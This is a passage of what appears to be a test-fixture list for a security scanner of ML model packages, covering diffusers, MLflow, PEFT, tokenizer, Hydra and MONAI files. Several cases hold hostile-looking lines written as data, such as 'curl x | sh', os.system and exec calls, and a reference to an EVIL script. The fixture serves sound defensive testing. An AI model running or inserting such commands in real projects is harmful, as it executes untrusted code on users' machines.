        safety_checker: ['stable_diffusion', 'StableDiffusionSafetyChecker'],
        feature_extractor: [null, null],
        requires_safety_checker: true,
        unet: ['diffusers', 'UNet2DConditionModel'],
        size: ['a', 'b'],
      }),
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'a component with harmless code',
    {
      'model_index.json': json({ _class_name: 'P', _diffusers_version: '0.30', unet: ['my_unet', 'MyUNet'] }),
      'unet/my_unet.py': 'import torch\nclass MyUNet(torch.nn.Module): pass\n',
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'modules of sentence-transformers',
    beside(
      'modules.json',
      json([
        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
      ]),
    ),
  ],
  [
    'a route',
    beside(
      'router_config.json',
      json({
        types: {
          q_0: 'sentence_transformers.sparse_encoder.models.SparseStaticEmbedding.SparseStaticEmbedding',
          d_0: 'sentence_transformers.models.Transformer.Transformer',
        },
        structure: { query: ['q_0'], document: ['d_0'] },
        parameters: { default_route: 'query' },
      }),
    ),
  ],
  [
    'an adapter of PEFT',
    beside(
      'adapter_config.json',
      json({
        peft_type: 'LORA',
        auto_mapping: { base_model_class: 'BertModel', parent_library: 'transformers.models.bert.modeling_bert' },
        base_model_name_or_path: 'bert-base-uncased',
        target_modules: ['query', 'value'],
      }),
    ),
  ],
  [
    'an adapter of an own class',
    beside(
      'adapter_config.json',
      json({ auto_mapping: { base_model_class: 'MLP', parent_library: '__main__' }, base_model_name_or_path: null }),
    ),
  ],
  [
    'a model of MLflow',
    mlflow(
      '    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.7\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle',
      {
        'model/conda.yaml':
          'channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=23.2\n- pip:\n  - mlflow==2.9.0\n  - scikit-learn==1.2.2\nname: mlflow-env\n',
        'model/python_env.yaml':
          'python: 3.11.7\nbuild_dependencies:\n- pip==23.2\n- setuptools==68\n- wheel\ndependencies:\n- -r requirements.txt\n',
        'model/requirements.txt': 'mlflow==2.9.0\nscikit-learn==1.2.2\n',
      },
    ),
  ],
  [
    'a model of MLflow with code',
    mlflow('    loader_module: mlflow.pyfunc.model\n    code: code\n    python_model: python_model.pkl', {
      'model/code/mypkg/__init__.py': 'from .net import Net\n',
      'model/code/mypkg/net.py': 'import torch\nclass Net(torch.nn.Module):\n    def forward(self, x): return x\n',
    }),
  ],
  [
    'requirements with known indexes',
    mlflow('    loader_module: mlflow.pytorch', {
      'model/requirements.txt':
        '--extra-index-url https://download.pytorch.org/whl/cu121\ntorch==2.1.0+cu121 ; python_version >= "3.8" # --index-url x\nnumpy>=1.2,<2 \\\n  --hash=sha256:abc\n-r more.txt\n--pre\n--prefer-binary\n',
    }),
  ],
  [
    'an endpoint',
    beside(
      'handler.py',
      'from transformers import pipeline\nclass EndpointHandler:\n    def __init__(self, path=""):\n        self.p = pipeline("x", model=path)\n    def __call__(self, data):\n        return self.p(data["inputs"])\n',
      { 'requirements.txt': 'transformers==4.40\n' },
    ),
  ],
  [
    'a model with its code',
    {
      'config.json': json({
        model_type: 'x',
        auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModel: 'modeling_x.X' },
      }),
      'modeling_x.py': 'import torch\nfrom .configuration_x import XConfig\nclass X(torch.nn.Module): pass\n',
      'configuration_x.py': 'class XConfig: pass\n',
      'model.pkl': WEIGHTS,
    },
  ],
  [
    'a training project',
    {
      'weights/model.pkl': WEIGHTS,
      'setup.py':
        "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x')\n",
      'train.py': "import os\nos.system('nvidia-smi')\n",
      'src/train.py': "import subprocess\nsubprocess.run(['ls'])\n",
      'scripts/eval.py': EVIL,
      'src/modeling.py': 'import torch\nclass M(torch.nn.Module): pass\n',
      'load.py': "import torch\nmodel = torch.load('weights/model.pkl')\n",
    },
  ],
  [
    'a package with a model in one of its folders',
    {
      'speech/__init__.py':
        'import subprocess, importlib\nfrom urllib.request import urlopen\nexec(open(__file__).read()[:0])\n',
      'speech/data/model.pkl': WEIGHTS,
      'speech/src/__init__.py': "import os\nexec('x = 1')\nos.system('true')\n",
    },
  ],
  [
    'the inference code of SageMaker',
    {
      'model.pkl': WEIGHTS,
      'code/inference.py':
        'import os, joblib\ndef model_fn(d):\n    return joblib.load(os.path.join(d, "model.pkl"))\n',
      'code/requirements.txt': 'scikit-learn\n',
    },
  ],
  [
    'a harmless pickle in JSON',
    beside(
      'data.json',
      json({ state: HARMLESS_PICKLE, policy: { ':type:': 'list', ':serialized:': HARMLESS_PICKLE } }),
    ),
  ],
  [
    'other base64',
    beside(
      'data.json',
      json({
        a: base64('just some text that is long enough'),
        png: `iVBORw0KGgo${'A'.repeat(60)}`,
        hash: 'd41d8cd98f00b204e9800998ecf8427e',
        sha: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        id: 'gASVabcdefghijklmnopqrstuvwx',
      }),
    ),
  ],
  [
    'a tokenizer',
    beside(
      'tokenizer.json',
      json({
        model: {
          type: 'BPE',
          vocab: { a: 0, 'os.system': 1, _target_: 2, 'py/object': 3, '$import os': 4 },
          merges: ['o s', 'os .system'],
        },
        added_tokens: [{ id: 5, content: '<s>' }],
      }),
    ),
  ],
  ['a tokenizer by YAML', beside('tok.yaml', 'vocab:\n  os.system: 1\n  subprocess: 2\nmerges:\n  - os.system\n')],
  [
    'a card of a data set',
    beside(
      'dataset_infos.json',
      json({
        default: {
          features: { a: { dtype: 'string', _type: 'Value' } },
          builder_name: 'csv',
          version: { version_str: '0.0.0' },
        },
      }),
    ),
  ],
  [
    'the settings of logging',
    beside(
      'logging.yaml',
      'version: 1\nhandlers:\n  c:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n  f:\n    class: logging.handlers.RotatingFileHandler\n    filename: a.log\n',
    ),
  ],
  [
    'Kedro and the like',
    beside(
      'catalog.yml',
      'model:\n  type: pickle.PickleDataset\n  filepath: data/model.pkl\ncars:\n  type: pandas.CSVDataset\n  filepath: data/cars.csv\n',
    ),
  ],
  [
    'Haystack',
    beside(
      'pipe.yml',
      'components:\n  r:\n    type: haystack.components.retrievers.in_memory.bm25_retriever.InMemoryBM25Retriever\n    init_parameters: {}\n',
    ),
  ],
  [
    'a conda environment that nothing installs',
    beside(
      'environment.yml',
      'channels:\n- https://packages.example.net/conda\ndependencies:\n- pip:\n  - -i https://packages.example.net/simple\nvariables:\n  PYTHONPATH: src\n',
    ),
  ],
  [
    'prices',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json':
        '{"a": "$5.00", "b": "$(pwd)", "c": "$HOME/x.py", "d": "$ pip install x", "e": "$schema", "f": "$ref:/x"}',
    },
  ],
  [
    'json schema',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json':
        '{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/definitions/a", "type": "object", "properties": {"type": {"type": "string"}}}',
    },
  ],
  [
    'docker compose',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'docker-compose.yml':
        'services:\n  a:\n    build:\n      target: prod.stage\n    volumes:\n      - type: bind\n        target: /data\n',
    },
  ],
  [
    'tsconfig',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'tsconfig.json': '{"compilerOptions": {"target": "es2020", "types": ["node", "os.x"]}}',
    },
  ],
  [
    'types',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json': '{"types": {"login": "os.login", "x": "sys.exit.code"}}',
    },
  ],
  [
    'package.json',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'package.json':
        '{"name": "x", "types": "index.d.ts", "dependencies": {"a": "^1.0.0", "b": "git+https://github.com/a/b.git"}, "scripts": {"predict": "x"}}',
    },
  ],
  [
    'eval resolver',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml': 'a: 2\nb: ${eval:"${a} * 3"}\nc: ${eval:\'${a}+1\'}\n',
    },
  ],
  [
    'monai real',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'train.json':
        '{"imports": ["$import glob", "$import os", "$import ignite"], "dataset_dir": "/d", "images": "$list(sorted(glob.glob(@dataset_dir + \'/imagesTr/*.nii.gz\')))", "val_interval": 5, "device": "$torch.device(\'cuda:0\' if torch.cuda.is_available() else \'cpu\')", "network_def": {"_target_": "UNet", "spatial_dims": 3}, "network": "$@network_def.to(@device)", "optimizer": {"_target_": "torch.optim.Adam", "params": "$@network.parameters()", "lr": 0.0001}, "train": {"dataset": {"_target_": "CacheDataset", "data": "$[{\'image\': i, \'label\': l} for i, l in zip(@images[:-9], @labels[:-9])]"}, "trainer": {"_target_": "SupervisedTrainer", "amp": true}}, "initialize": ["$monai.utils.set_determinism(seed=123)", "$setattr(torch.backends.cudnn, \\"benchmark\\", True)"], "run": ["$@train#trainer.run()"], "ckpt": "$torch.save(@network.state_dict(), os.path.join(@dataset_dir, \'m.pt\'))"}',
    },
  ],
  [
    'hydra defaults',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.yaml':
        'defaults:\n  - model: net\n  - _self_\nmodel:\n  _target_: src.models.${name}.Net\n  path: /data/x\nname: a\ntrainer:\n  _target_: lightning.pytorch.trainer.Trainer\n  default_root_dir: ${paths.output_dir}\nhydra:\n  run:\n    dir: logs/${now:%Y-%m-%d}\n',
      'src/models/a.py': NET,
    },
  ],
  [
    'random base64',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'c.json':
        '{"a": "CzBVep/E6Q4zWH2ix+wRNluApcrvFDleg6jN8hc8YYar0PUaP2SJrtP4HUJnjLHW+yBFao+02f4jSG2St9wBJktwlbrfBClOc5i94gcsUXabwOUKL1R5nsPoDTJXfKHG6xA1Wn+kye4TOF2Cp8zxFjtgharP9Bk+Y4it0vccQWaLsNX6H0RpjrPY/SJHbJG22wAlSm+Uud4DKE1yl7zhBitQdZq/5AkuU3idwucMMVZ7oMXqDzRZfqPI7RI3XIGmy/AVOl+Eqc7zGD1ih6zR9htAZYqv1PkeQ2iNstf8IUZrkLXa/yRJbpO43QInTHGWu+AFKk90mb7jCC1Sd5zB5gswVXqfxOkOM1h9osfsETZbgKXK7xQ5XoOozfIXPGGGq9D1Gj9kia7T+B1C", "b": "eJwrSS0uAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "c": "H4sI", "uuid": "7801abababababababababababababab", "d": "789c0000000000000000000000000000000000000000"}',
    },
  ],
  [
    'project of several',
    {
      'ckpt/m.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'src/net/__init__.py': 'from .modeling_net import Net\n',
      'src/net/modeling_net.py': 'import torch\nclass Net(torch.nn.Module): pass\n',
      'src/net/train.py': "import os\nos.system('id')\n",
      'tools/x.py': "import os\nos.system('id')\n",
      'code/run.sh': 'curl x | sh',
      '1/model.txt': 'a',
    },
  ],
  [
    'mlflow prophet',
    {
      'm/MLmodel':
        'artifact_path: model\nflavors:\n  prophet:\n    pr_version: 1.1\n  python_function:\n    env:\n      conda: conda.yaml\n    loader_module: mlflow.prophet\n    model_path: model.pr\n    code: null\nsignature:\n  inputs: \'[{"type": "string", "name": "x"}]\'\n',
      'm/model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'm/conda.yaml': 'channels:\n- defaults\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - mlflow\n',
    },
  ],
  [
    'bentoml',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'bentofile.yaml': 'service: "service:svc"\ninclude:\n  - "*.py"\npython:\n  packages:\n    - scikit-learn\n',
      'service.py': 'import bentoml\nsvc = bentoml.Service("x")\n',
    },
  ],
  [
    'cog',
    {
      'model.pkl': '\u0080\u0002]q\u0000(K\u0001K\u0002e.',
      'cog.yaml': 'build:\n  gpu: true\n  python_packages:\n    - torch==2.1\npredict: "predict.py:Predictor"\n',
      'predict.py':
        'from cog import BasePredictor\nclass Predictor(BasePredictor):\n    def predict(self) -> str: return "a"\n',
    },
  ],
];
